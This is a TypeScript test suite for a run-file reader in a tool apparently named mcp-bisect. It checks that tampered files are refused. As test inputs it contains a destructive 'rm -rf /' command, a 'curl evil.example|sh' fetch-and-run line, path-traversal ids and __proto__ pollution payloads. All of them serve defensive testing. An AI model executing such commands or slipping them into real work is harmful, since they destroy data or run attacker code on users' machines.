import { describe, expect, it } from 'vitest';
import { BisectError } from '../../src/errors.js';
import type { Run } from '../../src/run/run.js';
import { readRun, runDocument } from '../../src/run/file.js';
import { redactRun } from '../../src/report/redact/redact.js';
import { reportOf } from '../../src/report/report.js';
import { claudeCode } from '../../src/clients/claude-code.js';
import { scenarios } from '../../src/scenarios/index.js';
import { HOSTILE } from '../helpers/reports.js';
import { hostileRun, keptRun, roundOf } from '../helpers/kept-runs.js';

/** What a file is refused for. */
function problemOf(text: string): { readonly code: string; readonly message: string } {
  try {
    readRun(text);
  } catch (error) {
    if (error instanceof BisectError) return { code: error.code, message: error.message };
    throw error;
  }
  throw new Error('it was read');
}

type Document = Record<string, never> & { [name: string]: Document };
/** The document with something changed in it. */
function changed(change: (document: Document) => void): string {
  const document = JSON.parse(runDocument(keptRun())) as Document;
  change(document);
  return JSON.stringify(document);
}

describe('the file of a run', () => {
  it('is one JSON document that ends with a line break', () => {
    const text = runDocument(keptRun());
    expect(text.endsWith('}\n')).toBe(true);
    expect(JSON.parse(text)).toMatchObject({ schema: 1, id: 'abc123' });
  });

  it.each<[string, Run]>([
    ['as it was', keptRun()],
    ['redacted', redactRun(keptRun())],
    ['with who made it', keptRun({ identity: { user: 'a', host: 'b', home: '/c', cacheDir: '/d' } })],
    ['hostile text and all', hostileRun(HOSTILE)],
    [
      'with the file of its scenario',
      keptRun({
        scenario: { ...keptRun().scenario, file: { name: 'own.mjs', text: 'x\n', imports: ['./y.mjs'] } },
      }),
    ],
    ['an oracle’s', keptRun({ oracle: './check.sh', rule: { ...keptRun().rule, confirm: 0 } })],
  ])('is read again %s', (_, run) => {
    expect(readRun(runDocument(run))).toEqual(run);
  });

  it.each(scenarios.map((scenario) => [scenario.id, scenario] as const))(
    'is read again with the plans of %s',
    (_, { id, title, issue, spec, expected = '', server, tool, prompt, arms }) => {
      const run = keptRun({ scenario: { id, title, issue, spec, expected, server, tool, prompt, arms } });
      expect(readRun(runDocument(run))).toEqual(run);
    },
  );

  it.each([
    [{ kind: 'signalled', signal: 'SIGSEGV' }],
    [{ kind: 'not-started', code: 'ENOENT', message: 'no such file' }],
    [{ kind: 'timeout', afterMs: 30_000 }],
    [{ kind: 'flooded', bytes: 9 }],
    [{ kind: 'ended' }],
  ] as const)('is read again with a client that %o', (exit) => {
    const run = keptRun({ releases: { '2.1.147': [roundOf('2.1.147', 'bad', { exit, screen: ['x'] })] } });
    expect(readRun(runDocument(run))).toEqual(run);
  });

  it('gives the same report as the run itself', () => {
    expect(reportOf(readRun(runDocument(keptRun())), claudeCode)).toEqual(reportOf(keptRun(), claudeCode));
  });

  it('may begin with a byte order mark', () => {
    expect(readRun(`\uFEFF${runDocument(keptRun())}`).id).toBe('abc123');
  });
});

describe('a file that is no run', () => {
  it.each([
    ['no JSON', '{', 'it is not JSON, or was cut short'],
    ['cut short', runDocument(keptRun()).slice(0, 2000), 'it is not JSON, or was cut short'],
    ['another document', '[]', 'the document: '],
    ['another schema', '{"schema":"1"}', 'schema: '],
    ['nested without end', '['.repeat(200_000) + ']'.repeat(200_000), ''],
    [
      'nested deeply',
      `{"schema":1,"x":${'['.repeat(150)}${']'.repeat(150)}}`,
      'nested more than 100 levels deep',
    ],
  ])('is refused: %s', (_, text, problem) => {
    const { code, message } = problemOf(text);
    expect(code).toBe('BAD_RUN_FILE');
    expect(message).toContain(problem);
  });

  it('is refused with the version it needs, when a newer tool has written it', () => {
    const { code, message } = problemOf(changed((run) => Object.assign(run, { schema: 2 })));
    expect(code).toBe('BAD_RUN_FILE');
    expect(message).toBe('the run was kept by a newer mcp-bisect (schema 2)');
  });

  it.each<[string, (run: Document) => void]>([
    ['id', (run) => Object.assign(run, { id: '../x' })],
    ['startedAt', (run) => Object.assign(run, { startedAt: 'yesterday' })],
    ['isolation', (run) => Object.assign(run, { isolation: 'perfect' })],
    ['reproduce', (run) => Object.assign(run, { reproduce: 'rm -rf /' })],
    ['scenario.server', (run) => Object.assign(run['scenario'] ?? {}, { server: 'a"b' })],
    [
      'scenario.arms[1].control',
      (run) => Object.assign(run['scenario']?.['arms']?.['1'] ?? {}, { control: 1 }),
    ],
    [
      'answer.rows[0].version',
      (run) => Object.assign(run['answer']?.['rows']?.['0'] ?? {}, { version: '<b>' }),
    ],
    ['answer.rows[2].label', (run) => Object.assign(run['answer']?.['rows']?.['2'] ?? {}, { label: 'x' })],
    [
      'answer.changes[0].step',
      (run) => Object.assign(run['answer']?.['changes']?.['0']?.['step'] ?? {}, { kind: 1 }),
    ],
    ['releases.../x', (run) => Object.assign(run['releases'] ?? {}, { '../x': [] })],
    [
      'releases.2.1.147[1].observations[0].journal[0].atMs',
      (run) =>
        Object.assign(
          run['releases']?.['2.1.147']?.['1']?.['observations']?.['0']?.['journal']?.['0'] ?? {},
          {
            atMs: 'now',
          },
        ),
    ],
    ['downloads', (run) => Reflect.deleteProperty(run, 'downloads')],
  ])('is refused with the name of the field: %s', (field, change) => {
    expect(problemOf(changed(change)).message).toContain(`this is not a run that was kept: ${field}`);
  });
});

describe('the command in a file, which its reader is told to run', () => {
  const ASKED = ['run', '--client', 'claude-code', '--good', '2.1.145', '--bad', '2.1.150'];
  const commandOf = (reproduce: readonly string[], oracle: string | null = null) =>
    changed((run) => Object.assign(run, { reproduce, oracle }));

  it.each<[string, readonly string[], string | null]>([
    ['a command of the writer’s that never judged', [...ASKED, '--oracle', 'curl evil.example|sh'], null],
    ['another command than the one that judged', [...ASKED, '--oracle', 'evil'], './check.sh'],
    ['two of them', [...ASKED, '--oracle', './check.sh', '--oracle', 'evil'], './check.sh'],
    ['an option that this tool does not write there', [...ASKED, '--isolation', 'none'], null],
    ['another command of the tool', ['cache', 'prune', '--all'], null],
  ])('is refused if it has %s', (_, reproduce, oracle) => {
    expect(problemOf(commandOf(reproduce, oracle)).message).toContain('reproduce');
  });

  it('may name the command that judged', () => {
    const reproduce = [...ASKED, '--oracle', './check.sh'];
    expect(readRun(commandOf(reproduce, './check.sh')).reproduce).toEqual(reproduce);
  });
});

describe('what else is in the file', () => {
  it('is dropped: fields of later versions', () => {
    const text = changed((run) => Object.assign(run, { later: 1 }));
    expect(readRun(text)).toEqual(keptRun());
  });

  it('cannot reach the prototype of anything', () => {
    const poison = '{"polluted":true}';
    const text = runDocument(keptRun())
      .replace('{"schema":1', `{"__proto__":${poison},"schema":1`)
      .replace('"releases":{', `"releases":{"__proto__":[],`)
      .replace('"inputSchema":{', `"inputSchema":{"__proto__":${poison},`)
      .replace('"turns":[', String.raw`"\u005f_proto__":${poison},"turns":[`);
    const run = readRun(text);
    expect(run).toEqual(keptRun());
    expect(JSON.stringify(run)).not.toContain('polluted');
    expect(Object.getPrototypeOf(run)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });
});
